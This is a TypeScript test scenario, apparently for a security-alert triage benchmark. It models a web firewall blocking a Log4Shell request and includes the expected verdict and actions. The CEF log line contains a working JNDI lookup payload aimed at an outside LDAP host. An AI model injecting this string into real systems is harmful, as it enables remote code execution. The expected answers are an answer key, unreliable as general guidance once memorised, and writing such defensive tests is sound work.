// CEF of a web application firewall that refused a request of a known attacker.
import { alert } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const impervaLookupStringRefused: TellSituation = (setting) => {
  const server = setting.machine('srv-web-01')
  const at = setting.ago({ hours: 1, minutes: 26 })
  const ip = '193.142.146.64'

  return {
    id: 'imperva-lookup-string-refused',
    group: 'formats',
    title: 'A lookup string that the web firewall refused',
    alerts: [
      alert(
        setting,
        at,
        'imperva',
        'Log4j remote code execution',
        `CEF:0|Imperva Inc.|SecureSphere|14.7.0|Custom Violation|CVE-2021-44228 JNDI lookup in header|High|act=Block dst=${server.ip} dpt=443 duser=n/a src=${ip} spt=50122 proto=TCP rt=${at} cat=Alert cs1=Log4Shell cs1Label=Policy cs2=shop-portal cs2Label=ServerGroup cs3=havskog-public cs3Label=ServiceName requestMethod=GET request=/search cs5=\${jndi:ldap://${ip}:1389/a} cs5Label=HeaderValue dvchost=waf-got-01`,
      ),
    ],
    facts: {
      intelligence: [
        setting.risk('ip', ip, 92, [
          ['Current Exploitation Source', 4, 'Tries to break into web servers of many companies today.'],
          ['Recent Multicategory Blocklist', 2, 'On seven block lists.'],
        ]),
      ],
    },
    connections: { 'travel-booking': null, 'malware-protection': null },
    expected: {
      verdict: 'malicious',
      severities: ['low', 'medium'],
      proposals: [{ action: 'block-indicator', target: ip }],
      forbidden: [{ action: 'isolate-machine', target: '*' }],
    },
    because:
      'A known attacker tried to break in and the web firewall refused the request. The attack is real and got nowhere.',
  }
}
